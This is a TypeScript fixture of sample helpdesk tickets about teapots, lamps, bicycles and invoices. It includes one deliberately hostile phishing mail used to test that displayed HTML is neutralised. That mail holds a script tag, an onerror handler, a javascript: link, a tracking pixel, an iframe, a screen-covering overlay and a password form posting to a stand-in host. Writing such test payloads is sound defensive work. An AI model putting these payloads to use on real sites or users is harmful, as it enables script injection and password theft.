import { mails, notes, type StoryTicket, says } from '../story';

/** A mail that tries everything it can. Where it is shown, nothing of it may run, load or deceive. */
const HOSTILE =
  '<p>Dear support, please confirm your account.</p>' +
  '<script>document.title = "taken over"</script>' +
  '<img src="x" onerror="document.title = \'taken over\'">' +
  '<img src="https://tracker.invalid/opened.gif" width="1" height="1" alt="">' +
  '<style>body { display: none } .composer { position: fixed; inset: 0 }</style>' +
  '<iframe src="https://tracker.invalid/frame"></iframe>' +
  '<form action="https://tracker.invalid/password"><input name="password" placeholder="Your password"><button>Go on</button></form>' +
  '<p><a href="javascript:alert(1)">Read more</a> · <a href="https://tracker.invalid/login">https://desk.example/login</a></p>' +
  '<div style="position: fixed; inset: 0; background: white" onclick="alert(2)">You were signed out.</div>';

/** Zoë of Harbour Lights, the three of Corp Example, and Sean of Quotes & Sons. */
export const near = (): StoryTicket[] => [
  {
    subject: 'Die Teekanne tropft beim Einschenken',
    status: 'open',
    type: 'Problem',
    category: 'Product',
    assignee: 'erin',
    sla: { name: 'Next answer in 4 hours', dueIn: -0.6 },
    custom: { product: 'Teapot', order: 'NW-10231', pieces: 1, guarantee: true, parts: ['Lid', 'Handle'] },
    said: [
      mails(
        'zoe',
        9,
        "<p>Guten Tag,</p><p>die blaue Teekanne tropft bei jedem Einschenken. Wir haben <b>drei Kannen</b> verglichen: nur diese eine ist betroffen.</p><ul><li>Deckel sitzt fest</li><li>Griff ist kühl</li><li>Tülle hat einen kleinen Grat</li></ul><p>Viele Grüße<br>Zoë O'Brien-Müller</p>",
      ),
      says(
        'erin',
        8,
        "Guten Tag Frau O'Brien-Müller,\n\ndas darf nicht sein. Möchten Sie eine neue Kanne oder Ihr Geld zurück?\n\nErin",
      ),
      says('zoe', 4.6, 'Lieber eine neue Kanne. Danke für die schnelle Antwort!'),
    ],
  },
  {
    subject: 'Six harbour lamps for the new pier',
    status: 'waiting',
    type: 'Order',
    category: 'Product',
    assignee: 'ina',
    tags: ['quote'],
    dueIn: 120,
    custom: { product: 'Lamp', pieces: 6, packing: 'Salt water: wrap twice.' },
    said: [
      says('zoe', 80, 'We need six lamps that bear salt water. Which would you take?'),
      says('ina', 77, 'The model "Mole" in brass. Shall I send you one to try it out?\n\nIna'),
    ],
  },
  {
    subject: 'Rechnung doppelt bezahlt',
    status: 'solved',
    type: 'Problem',
    category: 'Invoice',
    group: 'Billing',
    assignee: 'ina',
    rating: { score: 'good', label: 'Gut', comment: 'Sehr freundlich, vielen Dank.' },
    custom: { product: 'Other', order: 'NW-10150' },
    said: [
      says('zoe', 360, 'Wir haben die Rechnung versehentlich zweimal überwiesen.'),
      says('ina', 355, 'Der zweite Betrag ist heute an Sie zurückgegangen.\n\nIna'),
    ],
  },
  {
    subject: 'Opening hours between the holidays?',
    status: 'closed',
    priority: 'low',
    type: 'Question',
    assignee: 'felix',
    custom: { product: 'Other' },
    said: [says('zoe', 1900, 'Are you open on the 27th?'), says('felix', 1895, 'Yes, from ten to four.\n\nFélix')],
  },
  {
    subject: 'Desk lamps for the new office',
    status: 'open',
    type: 'Order',
    category: 'Product',
    assignee: 'felix',
    cc: ['alice.smith+billing@corp.example'],
    custom: { product: 'Lamp', pieces: 15 },
    said: [
      says('alice', 30, 'Fifteen desk lamps, please, black. Send the invoice to my billing address.'),
      says('felix', 28, 'Fifteen black ones are reserved for you. When do you move in?\n\nFélix'),
      says('alice', 3, 'On the first of next month.'),
    ],
  },
  {
    subject: 'Wrong colour: ordered black, got white',
    status: 'parts',
    type: 'Return',
    category: 'Delivery',
    assignee: 'erin',
    custom: { product: 'Lamp', order: 'NW-10190', pieces: 1, parts: ['Shade'] },
    said: [
      says('alice', 150, 'One lamp is white. The other two are black, as ordered.'),
      says('erin', 148, 'Black is sold out until the next delivery, about ten days. May it wait so long?\n\nErin'),
      says('alice', 147, 'Yes.'),
    ],
  },
  {
    subject: 'Password of the order page',
    status: 'solved',
    type: 'Question',
    category: 'Website',
    assignee: 'felix',
    custom: { product: 'Other' },
    said: [
      says('alice', 700, 'I cannot sign in to the order page any more.'),
      says('felix', 699, 'The link for a new password is in your mailbox.\n\nFélix'),
    ],
  },
  {
    subject: 'Purchase order number is missing on invoice 2240',
    status: 'open',
    type: 'Problem',
    category: 'Invoice',
    group: 'Billing',
    assignee: 'ina',
    custom: { product: 'Lamp', order: 'NW-10198' },
    said: [
      says('alicebilling', 26, 'We cannot pay invoice 2240 without our purchase order number on it. It is 4500-118.'),
      notes('ina', 24, 'Alice Smith (billing) and Alice Smith are the same person with two addresses.'),
    ],
  },
  {
    subject: 'Bicycle for the gatekeeper',
    status: 'new',
    type: 'Question',
    category: 'Product',
    custom: { product: 'Bicycle' },
    said: [says('bob', 1.2, 'Do you have a bicycle with a big basket? The site is two miles long.\n\nBob')],
  },
  {
    subject: 'Bell too quiet',
    status: 'solved',
    priority: 'low',
    type: 'Problem',
    category: 'Product',
    assignee: 'felix',
    rating: { score: 'neutral', label: 'Okay' },
    custom: { product: 'Bicycle', order: 'NW-10066' },
    said: [says('bob', 820, 'Nobody hears the bell.'), says('felix', 815, 'A louder one is in the post.\n\nFélix')],
  },
  {
    subject: 'Your account will be closed <b>today</b>',
    status: 'new',
    tags: ['suspicious'],
    custom: { product: 'Other' },
    said: [mails('sean', 14, HOSTILE), notes('erin', 13.5, 'Sean did not write this: somebody uses his address.')],
  },
  {
    subject: 'A "quote" about quotes',
    status: 'waiting',
    type: 'Question',
    category: 'Product',
    assignee: 'erin',
    custom: { product: 'Teapot' },
    said: [
      says('sean', 60, "Can you engrave 'It's always \"tea time\" somewhere' on a pot?"),
      says('erin', 58, 'We can, up to 40 letters. With or without the quotation marks?\n\nErin'),
    ],
  },
];
